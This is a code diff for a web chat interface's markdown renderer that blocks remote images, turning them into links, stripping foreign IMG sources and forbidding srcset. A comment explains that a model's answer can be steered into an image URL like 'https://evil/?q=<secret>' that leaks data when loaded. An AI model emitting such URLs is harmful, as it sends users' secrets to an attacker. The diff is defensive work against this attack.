@@ -20,8 +20,24 @@ const markdown = new Marked({
     html({ text }) {
       return escapeHtml(text);
     },
+    // Loading a remote image would tell its server whatever the model put in the URL (an answer
+    // can be steered into `![x](https://evil/?q=<secret>)`): such an image becomes a link instead.
+    image({ href, text }) {
+      if (loadsNothingRemote(href)) return false;
+      return `<a href="${escapeHtml(href)}">${escapeHtml(text || href)}</a>`;
+    },
   },
 });
+
+/** An image URL the page may load: same origin as the page, or inline `data:image/…`. */
+export function loadsNothingRemote(url: string): boolean {
+  try {
+    const parsed = new URL(url, document.baseURI);
+    return parsed.origin === location.origin || (parsed.protocol === 'data:' && /^data:image\//i.test(parsed.href));
+  } catch {
+    return false;
+  }
+}
 
 let purifierReady = false;
 
@@ -32,6 +48,10 @@ function purifier(): typeof DOMPurify {
       if (node.tagName === 'A') {
         node.setAttribute('target', '_blank');
         node.setAttribute('rel', 'noopener noreferrer nofollow');
+      }
+      // Second layer for images: whatever HTML reaches the page never loads one from elsewhere.
+      if (node.tagName === 'IMG' && !loadsNothingRemote(node.getAttribute('src') ?? '')) {
+        node.removeAttribute('src');
       }
     });
     purifierReady = true;
@@ -44,7 +64,7 @@ export function sanitizeHtml(html: string): string {
   return purifier().sanitize(html, {
     USE_PROFILES: { html: true },
     FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'option', 'iframe', 'object', 'embed'],
-    FORBID_ATTR: ['style'],
+    FORBID_ATTR: ['style', 'srcset'],
     ALLOW_DATA_ATTR: false,
     ADD_ATTR: ['target', 'data-language'],
   });
